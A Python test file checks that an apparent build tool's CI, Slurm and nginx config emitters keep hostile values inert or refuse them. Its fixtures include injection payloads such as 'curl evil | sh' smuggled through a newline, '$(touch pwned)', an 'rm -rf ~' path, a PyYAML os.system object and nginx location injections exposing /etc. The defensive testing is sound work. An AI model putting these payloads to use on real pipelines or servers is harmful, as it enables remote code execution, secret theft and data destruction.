"""Round trips of every emitter: for generated hostile values, parsing the emitted file gives
back exactly that value in exactly its field, and nothing else changes. The parsers are not
ours: PyYAML's loader and shlex for CI files, bash itself for the sbatch script, crossplane
(nginx's config grammar) for the cache server.

Found cases they cover (each went through before these rules): `${{ secrets.X }}` in a
source dir landing in a GitHub `run:` line; a project path holding a newline injecting a
command into the sbatch script; a --bind value injecting a `location` into nginx.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
import tempfile
from pathlib import Path

import crossplane
import pytest
import yaml
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from tfforge.build import emit
from tfforge.build.matrix import Cell, HostGain, Plan
from tfforge.cluster import cache
from tfforge.errors import ConfigError

SETTINGS = settings(
    max_examples=120,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
PLAN = Plan(
    "x86-64-v2",
    False,
    "12.2.0",
    (
        Cell(
            "haswell-tf2.21.0-py3.11",
            "haswell",
            "haswell",
            "-march=haswell",
            "2.21.0",
            "3.11",
            (HostGain("h1", ()),),
        ),
    ),
)
HOSTILE = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("${}'\"`\\#:;&|<> -!*?[]%@~\n\r\t\x00\x1b\u2028\x85")),
        st.characters(codec="utf-8"),
    ),
    min_size=1,
    max_size=30,
)
INJECTIONS = [
    "${{ secrets.TFFORGE_REMOTE_HEADER }}",
    "$ {{ github.token }}",
    "/src\n    - run: curl evil | sh",
    "x'; touch pwned; '",
    "$(touch pwned)",
    "`touch pwned`",
    "a\x00b",
    "{x: !!python/object/apply:os.system [id]}",
]
OURS = re.compile(r"\$\{\{ (matrix\.[a-z_]+|secrets\.TFFORGE_REMOTE_HEADER|vars\.[A-Z_]+) \}\}")


def _strings(node):
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(node, list):
        for v in node:
            yield from _strings(v)
    elif isinstance(node, str):
        yield node


def _emitted(fn, shared):
    try:
        return fn(PLAN, shared)
    except ConfigError as exc:
        assert str(exc).count("\n") == 0
        return None


@SETTINGS
@given(st.lists(HOSTILE, min_size=1, max_size=3))
@example(["--source-dir", "/home/u/${{ secrets.TFFORGE_REMOTE_HEADER }}"])
@example(["--source-dir", INJECTIONS[2]])
def test_github_workflow_round_trip(values):
    shared = ("--source-dir", *values)
    text = _emitted(emit.github, shared)
    event("refused" if text is None else "emitted")
    if text is None:  # refused: it held a control character or a GitHub expression
        assert any(emit._EXPRESSION.search(v) or emit._control(v) for v in values)
        return
    doc = yaml.safe_load(text)
    base = yaml.safe_load(emit.github(PLAN, ()))
    run = doc["jobs"]["build"]["steps"][2]["run"]
    prefix = ". .venv/bin/activate && "
    assert run.startswith(prefix)
    words = shlex.split(run[len(prefix) :])
    base_words = shlex.split(base["jobs"]["build"]["steps"][2]["run"][len(prefix) :])
    assert words == [*base_words, *shared]
    doc["jobs"]["build"]["steps"][2]["run"] = base["jobs"]["build"]["steps"][2]["run"]
    assert doc == base  # nothing else changed
    for s in _strings(doc):  # the only expressions GitHub will evaluate are ours
        assert OURS.sub("", s).find("${{") == -1


@SETTINGS
@given(st.lists(HOSTILE, min_size=1, max_size=3))
@example(["x'; touch pwned; '"])
def test_gitlab_job_round_trip(values):
    shared = ("--base-image", *values)
    text = _emitted(emit.gitlab, shared)
    event("refused" if text is None else "emitted")
    if text is None:
        assert any(emit._control(v) for v in values)
        return
    doc = yaml.safe_load(text)
    base = yaml.safe_load(emit.gitlab(PLAN, ()))
    script = doc["tfforge-build"]["script"]
    assert shlex.split(script[2]) == [*shlex.split(base["tfforge-build"]["script"][2]), *shared]
    doc["tfforge-build"]["script"][2] = base["tfforge-build"]["script"][2]
    assert doc == base


def _run_sbatch_script(tmp: Path, shared: tuple[str, ...], python_name: str, tasks: str):
    stub = tmp / "bin" / python_name
    stub.parent.mkdir(parents=True, exist_ok=True)
    stub.write_text(
        f"#!{sys.executable}\nimport json, os, sys\n"
        "json.dump({'argv': sys.argv[1:], 'root': os.environ.get('TFFORGE_ROOT')}, sys.stdout)\n"
    )
    stub.chmod(0o755)
    project = tmp / "project"
    results = tmp / "results"
    project.mkdir(exist_ok=True)
    results.mkdir(exist_ok=True)
    try:
        script = emit.slurm(
            PLAN, shared, project=str(project), python=str(stub), results=str(results), tasks=tasks
        )
    except ConfigError:
        return None
    path = tmp / "matrix.sbatch"
    path.write_text(script)
    env = {k: v for k, v in os.environ.items() if k != "TFFORGE_PYTHON"}
    env["SLURM_ARRAY_TASK_ID"] = "0"
    proc = subprocess.run(
        ["bash", str(path)], cwd=tmp, env=env, capture_output=True, text=True, timeout=30
    )
    assert proc.returncode == 0, proc.stderr
    return json.loads((results / f"{PLAN.cells[0].cell}.json").read_text())


@settings(SETTINGS, max_examples=40)
@given(
    st.lists(HOSTILE, max_size=2),
    HOSTILE.filter(lambda s: "/" not in s and "\x00" not in s and s not in (".", "..")),
    HOSTILE,
)
@example(["$(touch pwned)"], "py `touch pwned`", "/t'; touch pwned; '")
def test_sbatch_script_round_trip_through_bash(values, python_name, tasks):
    shared = tuple(values)
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        try:
            got = _run_sbatch_script(tmp, shared, python_name, tasks)
        except OSError:  # a name this file system cannot hold (too long in bytes)
            return
        pwned = list(tmp.rglob("pwned"))
    event("refused" if got is None else "ran in bash")
    if got is None:
        assert any(emit._control(v) for v in (*values, python_name, tasks))
        return
    assert not pwned
    cell = PLAN.cells[0]
    assert got["argv"] == [
        "-m",
        "invoke",
        "-r",
        tasks,
        "build",
        *cell.build_args(),
        *shared,
        "--json",
    ]
    assert got["root"] == str(tmp / "project")


@pytest.mark.parametrize(
    "project", ["/srv/p\nrm -rf ~", "/srv/p q", "/srv/p;x", "/srv/$HOME", "/srv/p%j"]
)
def test_sbatch_directive_paths_are_plain_or_refused(project):
    with pytest.raises(ConfigError, match="project folder"):
        emit.slurm(PLAN, (), project=project, python="/usr/bin/python3", results="/srv/r")


BINDS = st.one_of(
    st.ip_addresses().map(str),
    HOSTILE,
    st.sampled_from(["127.0.0.1:1; } location /etc { root /; } #", "0.0.0.0", "localhost"]),
)


@SETTINGS
@given(bind=BINDS, port=st.integers(min_value=-5, max_value=70000), store_name=HOSTILE)
@example(bind="127.0.0.1:9999; location / { root /etc; } #", port=9090, store_name="store")
@example(bind="::1", port=9090, store_name="store")
def test_nginx_config_round_trip(bind, port, store_name):
    with tempfile.TemporaryDirectory() as tmp:
        _nginx_round_trip(bind, port, store_name, Path(tmp))


def _nginx_round_trip(bind, port, store_name, tmp_path):
    state = tmp_path / "state"
    store = Path(f"/srv/{store_name}")
    try:
        text = cache.nginx_config(state=state, store=store, bind=bind, port=port)
    except ConfigError as exc:
        assert "\n" not in str(exc)
        event("refused")
        return
    event("emitted")
    conf = tmp_path / "nginx.conf"
    conf.write_text(text)
    parsed = crossplane.parse(str(conf), single=True, check_ctx=False, check_args=False)
    assert parsed["status"] == "ok", parsed["errors"]
    tree = parsed["config"][0]["parsed"]
    http = next(d for d in tree if d["directive"] == "http")["block"]
    server = next(d for d in http if d["directive"] == "server")["block"]
    listen = [d["args"] for d in server if d["directive"] == "listen"]
    locations = [d for d in server if d["directive"] == "location"]
    assert len(locations) == 1 and locations[0]["args"] == ["/"]
    root = [d["args"] for d in locations[0]["block"] if d["directive"] == "root"]
    assert root == [[str(store)]]
    import ipaddress

    address = ipaddress.ip_address(bind)
    want = f"[{address}]:{port}" if address.version == 6 else f"{address}:{port}"
    assert listen == [[want]]
    base = cache.nginx_config(state=state, store=Path("/srv/s"), bind="127.0.0.1", port=1)
    assert [d["directive"] for d in tree] == [
        d["directive"]
        for d in crossplane.parse(_write(tmp_path / "b.conf", base), single=True)["config"][0][
            "parsed"
        ]
    ]


def _write(path: Path, text: str) -> str:
    path.write_text(text)
    return str(path)


def test_a_writable_cache_off_loopback_needs_opt_in_and_htpasswd(tmp_path):
    import ipaddress

    public = ipaddress.ip_address("0.0.0.0")
    with pytest.raises(ConfigError, match="--allow-remote and --htpasswd"):
        cache.check_exposure(public, None, False)
    with pytest.raises(ConfigError, match="--allow-remote"):
        cache.check_exposure(public, tmp_path / "pw", False)
    with pytest.raises(ConfigError, match="--htpasswd"):
        cache.check_exposure(public, None, True)
    cache.check_exposure(public, tmp_path / "pw", True)
    cache.check_exposure(ipaddress.ip_address("::1"), None, False)
